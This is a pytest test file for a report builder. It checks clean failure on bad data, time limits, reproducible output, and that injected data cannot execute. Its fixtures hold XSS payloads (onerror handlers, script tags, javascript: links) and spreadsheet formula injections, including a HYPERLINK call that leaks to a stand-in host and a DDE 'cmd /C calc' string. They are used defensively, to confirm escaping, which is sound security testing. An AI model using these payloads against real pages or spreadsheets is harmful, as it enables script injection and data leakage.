"""The build, called from Python: bad input stops it with one clear message and writes nothing; every wait on the
kernel is bounded; data reaching the page cannot run a script; identical input gives identical bytes. (The same
guarantees through `make`, with interrupts and full disks, are in test_make.py.)"""

from __future__ import annotations

import csv
import os
import re
import shutil
import stat
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import ROOT, Workspace, write_notebook

from tarifftalks.build import render as build
from tarifftalks.build.page import pdf_bytes
from tarifftalks.cli import main
from tarifftalks.errors import ReportError

PREVIOUS = {"report.html": b"<p>previous good report</p>", "report.pdf": b"%PDF-previous"}


def previous_report(tmp_path: Path) -> Path:
    out = tmp_path / "reports"
    out.mkdir()
    for name, content in PREVIOUS.items():
        (out / name).write_bytes(content)
    return out


def assert_untouched(out: Path) -> None:
    assert sorted(p.name for p in out.iterdir()) == sorted(PREVIOUS)
    for name, content in PREVIOUS.items():
        assert (out / name).read_bytes() == content


def children() -> list[int]:
    """Live child processes of this test process (a kernel left running would be one)."""
    found = []
    for stat_file in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat_file.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if fields[1] == str(os.getpid()) and fields[0] != "Z":
            found.append(int(stat_file.parent.name))
    return found


def render_notebook(tmp_path: Path, *cells, **options):
    """Render a notebook of these cells (without validation, which other tests cover) into tmp_path/reports."""
    notebook = write_notebook(tmp_path / "notebooks" / "test.ipynb", *cells)
    return build.render(out_dir=tmp_path / "reports", build_dir=tmp_path / "build", notebook=notebook,
                        validate=False, progress=lambda _m: None, **options)  # fmt: skip


# ---------------------------------------------------------------- bad input


def stray_quote(ws):
    path = ws.data / "figures.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("f_a000_budget_sgd,a000,", 'f_a000_budget_sgd,"a000,', 1))
    return "figures.csv"


def unknown_enum(ws):
    ws.edit("tariffs", 0, status="rumoured")
    return "tariffs.csv, row 2, field 'status'"


def missing_article(ws):
    (ws.seeds / "002_ca6e38afccbc0d5d.txt").unlink()
    return "sources.csv, row 4, field 'file'"


@pytest.mark.parametrize("breakage", [stray_quote, unknown_enum, missing_article], ids=lambda f: f.__name__)
def test_bad_data_stops_with_one_message_and_keeps_the_last_report(workspace, tmp_path, capsys, breakage):
    where = breakage(workspace)
    out = previous_report(tmp_path)
    assert main(["--data", str(workspace.data), "--seeds", str(workspace.seeds), "report", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err and where in err, err
    assert_untouched(out)
    assert children() == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--as-of", "yesterday"], "parameter as_of='yesterday': expected an ISO date"),
        (["--as-of", "2025-01-15"], "a date on or after the first article ("),
        (["--comparator", "Atlantis"], "parameter comparator='Atlantis': expected one of"),
        (["--since", "someday"], "parameter since='someday'"),
    ],
)
def test_bad_parameters_stop_with_a_clear_message(tmp_path, capsys, args, message):
    out = previous_report(tmp_path)
    assert main(["report", "--out", str(out), "--build-dir", str(tmp_path / "build"), *args]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert_untouched(out)


def test_a_failing_cell_is_reported_with_notebook_and_cell_and_nothing_is_written(tmp_path):
    with pytest.raises(ReportError) as info:
        render_notebook(tmp_path, ("code", [], "raise ValueError('figure table is empty')"))
    assert re.fullmatch(
        rf"{tmp_path}/notebooks/test\.ipynb, cell \d: ValueError: figure table is empty", str(info.value)
    )
    assert not (tmp_path / "reports").exists() and not (tmp_path / "build").exists()
    assert children() == []


def test_a_cell_that_never_ends_stops_the_build_at_its_time_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(build, "CELL_TIMEOUT", 1)
    with pytest.raises(ReportError, match=r"test\.ipynb: CellTimeoutError: .*1 seconds"):
        render_notebook(tmp_path, ("code", [], "import time\ntime.sleep(600)"))
    assert not (tmp_path / "reports").exists()
    assert children() == []


def test_a_resource_from_the_web_is_refused():
    """WeasyPrint reads data: URLs and local files only (a failure before the swap writes nothing: test_make.py)."""
    page = '<p>x</p><img src="https://example.org/x.png">'
    with pytest.raises(ReportError) as info:
        pdf_bytes(page, ROOT, __import__("datetime").date(2025, 5, 27))
    assert str(info.value) == (
        'printing the PDF: only data: and file: resources are allowed, not the web: Error fetching "https://example.org/x.png"'
    )


def test_without_harfbuzz_subsetting_the_pdf_is_refused(monkeypatch):
    """WeasyPrint would subset the fonts with fontTools, and the same page would give other bytes."""
    import weasyprint.text.ffi

    monkeypatch.setattr(weasyprint.text.ffi, "harfbuzz_subset", None)
    with pytest.raises(ReportError, match="libharfbuzz-subset0 is missing"):
        pdf_bytes("<p>x</p>", ROOT, __import__("datetime").date(2025, 5, 27))


def test_relative_folders_work_from_any_directory(tmp_path, monkeypatch):
    """The kernel works in the notebook's folder: relative output and build folders must not land there."""
    notebook = write_notebook(tmp_path / "nb" / "test.ipynb", ("markdown", [], "## A heading"))
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    build.render(out_dir=Path("out"), build_dir=Path("build"), notebook=notebook, validate=False,
                 progress=lambda _m: None)  # fmt: skip
    assert (work / "out" / "report.pdf").read_bytes().startswith(b"%PDF")
    assert sorted(p.name for p in (tmp_path / "nb").iterdir()) == ["test.ipynb"]


# ---------------------------------------------------------------- data cannot run a script

SCRIPT = "document.title='PWNED'"
TEXT_PAYLOADS = [
    f'<img src=x onerror="{SCRIPT}">',
    f"<script>{SCRIPT}</script>",
    f"[a link](javascript:{SCRIPT})",
    "{{ 7*7 }}",
    f'" onload="{SCRIPT}',
]
ID_PAYLOAD = f'"><img src=x onerror="{SCRIPT}">'
FORMULAS = ['=HYPERLINK("http://x.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
KEYS = {"source_id", "event_key", "claim_key", "announcement_key", "until_event"}


def with_payloads(ws: Workspace) -> None:
    """Every text field of every table holds a payload (a formula first, for the spreadsheet rule) and every id and
    key ends with one; enumerations, vocabularies, file names, checksums, numbers and dates stay as they are."""
    package = __import__("json").loads((ws.data / "datapackage.json").read_text(encoding="utf-8"))
    n = 0
    for res in package["resources"]:
        rows = ws.rows(res["name"])
        for row in rows:
            for field in res["schema"]["fields"]:
                name, constraints = field["name"], field.get("constraints", {})
                if field["type"] != "string" or "enum" in constraints or name in ("file", "sha256") or not row[name]:
                    continue
                if name in KEYS or constraints.get("unique"):
                    row[name] += ID_PAYLOAD
                elif "pattern" in constraints:  # a vocabulary (countries, sectors, topics): the checks keep it so
                    continue
                else:
                    row[name] = f"{FORMULAS[n % 3]} {row[name]} {TEXT_PAYLOADS[n % 5]}"
                    n += 1
        ws.write_rows(res["name"], rows)


class Page(HTMLParser):
    """What a browser would run: scripts, event-handler attributes, javascript: links."""

    def __init__(self):
        super().__init__()
        self.scripts, self.handlers, self.links = 0, [], []

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [
            v for name, v in attrs if name in ("href", "src") and v and v.strip().lower().startswith("javascript")
        ]


@pytest.fixture(scope="module")
def payload_report(tmp_path_factory) -> Path:
    """The report of a fact base full of payloads, rendered by the command line (the checks skipped: the
    validator refuses such ids; the page must be safe all the same)."""
    ws = Workspace(tmp_path_factory.mktemp("payloads"))
    with_payloads(ws)
    out = ws.root / "reports"
    command = [sys.executable, "-m", "tarifftalks", "--data", str(ws.data), "--seeds", str(ws.seeds), "report",
               "--no-validate", "--out", str(out), "--build-dir", str(ws.root / "build")]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return out / "report"


def test_no_payload_becomes_markup_in_the_html(payload_report):
    html = (payload_report / "report.html").read_text(encoding="utf-8")
    page = Page()
    page.feed(html)
    assert (page.scripts, page.handlers, page.links) == (1, [], [])  # the template's own script, for the pop-ups
    assert "<img src=x" not in html and "{{ 7*7 }}" in html  # shown as text, not evaluated


def test_no_script_of_the_data_runs_in_a_browser(payload_report, tmp_path):
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("chromium is not installed (make test installs it when run as root): the browser check is skipped")

    def title_in_chromium(page: Path) -> str:
        dom = subprocess.run(
            [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
             f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000", "--dump-dom", page.as_uri()],
            capture_output=True, text=True, timeout=120,
        ).stdout  # fmt: skip
        return re.search(r"<title>(.*?)</title>", dom, re.S).group(1)

    control = tmp_path / "control.html"
    control.write_text(f'<html><head><title>t</title></head><body><img src=x onerror="{SCRIPT}"></body></html>')
    assert title_in_chromium(control) == "PWNED", "this browser runs no script: the check would prove nothing"
    assert "PWNED" not in title_in_chromium(payload_report / "report.html")


def test_published_cells_that_a_spreadsheet_would_run_are_neutralised(payload_report):
    cells = []
    for path in (payload_report / "data").glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'@SUM(") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# ---------------------------------------------------------------- reproducible (byte for byte: see test_make.py)


def test_the_report_date_is_the_as_of_date_not_the_clock(newest_report):
    html = (newest_report / "report.html").read_text(encoding="utf-8")
    assert re.search(r'<meta content="2025-05-27" name="dcterms.created"/?>', html)
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(newest_report / "report.pdf")
    meta = doc.get_metadata_dict()
    doc.close()
    assert meta.get("CreationDate", "").startswith("D:20250527") or "CreationDate" not in meta, meta
    clock_year = str(__import__("datetime").date.today().year)
    assert all(clock_year not in str(v) for v in meta.values()), meta


def test_published_csv_is_the_data(newest_report):
    for path in (ROOT / "data").glob("*.csv"):
        with open(newest_report / "data" / path.name, newline="", encoding="utf-8") as fh:
            published = list(csv.reader(fh))
        with open(path, newline="", encoding="utf-8") as fh:
            assert published == list(csv.reader(fh))


def test_outputs_are_readable_like_any_new_file(newest_report):
    """Written in a folder of their own, yet with the mode of a plain new file (0644 under umask 022)."""
    umask = os.umask(0)
    os.umask(umask)
    outputs = [p for p in newest_report.rglob("*") if p.is_file() and "build" not in p.parts]
    assert len(outputs) > 10
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in outputs} == {p.name: 0o666 & ~umask for p in outputs}


# ---------------------------------------------------------------- what a report reads


def test_a_row_from_a_later_article_changes_only_the_reports_that_include_it(workspace):
    from tarifftalks.build.fingerprint import fingerprint

    def prints():
        dates = (None, "2025-04-16", "2025-05-27")
        return {d: fingerprint([d, "Japan", None], workspace.data, workspace.seeds) for d in dates}

    before = prints()
    template = workspace.rows("figures")[0]
    workspace.append("figures", **{**template, "figure_id": "f_new_a003", "source_id": "a003"})
    after = prints()
    assert after["2025-04-16"] == before["2025-04-16"]  # a003 appeared on May 27
    assert after["2025-05-27"] != before["2025-05-27"]
    assert after[None] != before[None]


def test_a_changed_parameter_changes_the_fingerprint(workspace):
    from tarifftalks.build.fingerprint import fingerprint

    one = fingerprint([None, "Japan", None], workspace.data, workspace.seeds)
    assert one != fingerprint([None, "none", None], workspace.data, workspace.seeds)


def test_ctrl_c_that_lands_inside_an_asyncio_task_still_stops_the_run():
    """nbclient runs the notebook in asyncio, which logs and drops any BaseException raised in a task or callback
    but KeyboardInterrupt and SystemExit: a Ctrl-C landing there must still reach the render's clean-up (it was
    lost under load, and the run went on to the cell's time limit)."""
    import asyncio
    import signal

    from tarifftalks.cli import Interrupted, stop_on_signals

    async def elsewhere():
        os.kill(os.getpid(), signal.SIGINT)  # the handler runs in this task, not in the awaited coroutine
        await asyncio.sleep(0)

    tasks = []

    async def notebook():
        tasks.append(asyncio.get_running_loop().create_task(elsewhere()))
        await asyncio.sleep(2)  # returns normally only if the interrupt was dropped

    with pytest.raises(Interrupted), stop_on_signals():
        asyncio.run(notebook())
    assert isinstance(tasks[0].exception(), Interrupted)  # raised in the task, and out of asyncio.run too


def test_data_text_prints_as_written_in_tables_and_in_prose():
    """'R&D' stays 'R&D' (not 'R&amp;D'), '<b>' and a web address stay text, in a table cell and in the prose alike:
    the two renderers of the page read the escaped text the same way (the prose's once escaped entities twice, and
    made a link of a bare address)."""
    from tarifftalks.build.page import safe_markdown
    from tarifftalks.present.tables import esc, inline_html

    text = esc("R&D <b>bold</b> x<y &copy; *a* [link](javascript:alert(1)) http://x.example/?a=1 <https://y.example>")
    shown = (
        "R&amp;D &lt;b&gt;bold&lt;/b&gt; x&lt;y &amp;copy; *a* [link](javascript:alert(1)) http://x.example/?a=1 "
        "&lt;https://y.example&gt;"
    )
    assert inline_html(text) == shown
    assert safe_markdown(text).strip() == f"<p>{shown}</p>"
